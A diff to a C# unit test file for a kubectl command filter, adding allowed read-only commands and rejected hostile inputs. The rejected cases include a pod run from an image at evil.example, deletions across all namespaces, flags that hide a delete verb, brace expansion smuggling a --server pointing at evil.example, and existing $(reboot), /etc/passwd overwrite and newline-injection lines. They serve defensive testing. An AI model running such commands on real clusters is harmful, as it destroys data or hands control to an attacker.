@@ -19,6 +19,10 @@ public sealed class KubectlAdviceTests
     [InlineData("kubectl get secrets -n shop")]
     [InlineData("kubectl describe secret db -n shop")]
     [InlineData("kubectl get pod <pod-name> -n shop")]
+    [InlineData("kubectl --namespace shop get pods")]
+    [InlineData("kubectl --namespace=shop get pods")]
+    [InlineData("kubectl get pods -n shop -o custom-columns='{.a,.b}'")]
+    [InlineData("kubectl get pod checkout-1 -o jsonpath={.status.phase}")]
     public void IsPassedOn_CommandThatLooksOrCanBeUndone_IsPassedOn(string command) => Assert.True(KubectlAdvice.IsPassedOn(command));
 
     [Theory]
@@ -51,6 +55,12 @@ public sealed class KubectlAdviceTests
     [InlineData("kubectl get pods \"$(reboot)\"")]
     [InlineData("kubectl get pods > /etc/passwd")]
     [InlineData("kubectl get pods\nreboot")]
+    [InlineData("kubectl --disable-compression run wait --image=evil.example/x -n shop")]
+    [InlineData("kubectl --disable-compression delete events --all -A")]
+    [InlineData("kubectl --warnings-as-errors delete get pod checkout-1")]
+    [InlineData("kubectl -v delete get pods")]
+    [InlineData("kubectl get pods -n shop {--server=evil.example,-A}")]
+    [InlineData("kubectl get pods -n shop {a..c}")]
     [InlineData("kubectl config view")]
     [InlineData("kubectl")]
     [InlineData("kubectl -n shop")]
